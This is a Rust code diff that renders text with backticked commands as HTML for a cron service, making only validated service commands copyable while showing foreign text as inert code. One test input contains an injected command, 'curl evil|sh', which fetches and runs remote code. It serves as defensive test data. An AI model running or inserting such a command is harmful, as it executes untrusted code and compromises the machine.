@@ -1,9 +1,10 @@
 //! Times, IDs, texts of agents, links and commands as HTML.
 
 use chrono::{DateTime, SecondsFormat, Utc};
+use nas_cron_base::shell::command_before_backtick;
 use nas_cron_base::terminal::{printable, relative, shortened};
 
-use super::command::shown;
+use super::command::copyable;
 use super::html::{Html, escaped};
 
 /// An instant: relative to now, and in UTC. The script adds the local time.
@@ -63,14 +64,39 @@ pub(in crate::http::ops) fn text(text: &str) -> Html {
     Html::built(escaped(&printable(text)))
 }
 
-/// A text in which commands are between backticks: each becomes one that can be copied.
+/// A text of the service in which commands are between backticks: each becomes one that can be copied. Foreign text may only be
+/// in the commands, quoted: anywhere else, it could contain a command of its own.
 pub(in crate::http::ops) fn with_commands(text: &str) -> Html {
+    with_backticks(text, copyable)
+}
+
+/// A text in which code is between backticks, and which may contain foreign text: nothing of it can be copied with a click.
+pub(in crate::http::ops) fn with_code(text: &str) -> Html {
+    with_backticks(text, code)
+}
+
+fn code(text: &str) -> Html {
+    Html::built(format!("<code>{}</code>", escaped(text)))
+}
+
+/// Shows what is between backticks as code, and whole commands with `command`. A backtick in an ID of a command is part of it.
+fn with_backticks(text: &str, command: fn(&str) -> Html) -> Html {
     let text = printable(text);
-    let parts = text.split('`').enumerate().map(|(index, part)| match index % 2 {
-        1 => shown(part).to_string(),
-        _ => escaped(part),
-    });
-    Html::built(parts.collect())
+    let (mut html, mut rest) = (String::new(), text.as_str());
+    while let Some((before, after)) = rest.split_once('`') {
+        html.push_str(&escaped(before));
+        let found = command_before_backtick(after);
+        rest = if let Some(end) = found.or_else(|| after.find('`')) {
+            let show = if found.is_some() { command } else { code };
+            html.push_str(&show(&after[..end]).to_string());
+            &after[end + 1..]
+        } else {
+            // Nothing ends it: it is a backtick like any other character.
+            html.push('`');
+            after
+        };
+    }
+    Html::built(html + &escaped(rest))
 }
 
 #[cfg(test)]
@@ -107,5 +133,19 @@ mod tests {
             html.contains("nas-cron release --org &#39;a&lt;b&#39;") && html.ends_with(" ends that"),
             "{html}"
         );
+        let html = with_commands("`parked`, `nas-cron x;curl evil|sh`, `nas-cron jobs show 'a`b'`, a ` b")
+            .to_string();
+        assert_eq!(html.matches("data-copy").count(), 1, "{html}");
+        assert!(html.contains("data-copy=\"nas-cron jobs show &#39;a`b&#39;\""), "{html}");
+    }
+
+    #[test]
+    fn nothing_of_a_text_with_foreign_parts_can_be_copied() {
+        let html = with_code("no agent `nas-cron agents disable x` is registered: `<b>`").to_string();
+        assert!(
+            html.contains("<code>nas-cron agents disable x</code>") && !html.contains("data-copy"),
+            "{html}"
+        );
+        assert!(html.ends_with("<code>&lt;b&gt;</code>"), "{html}");
     }
 }
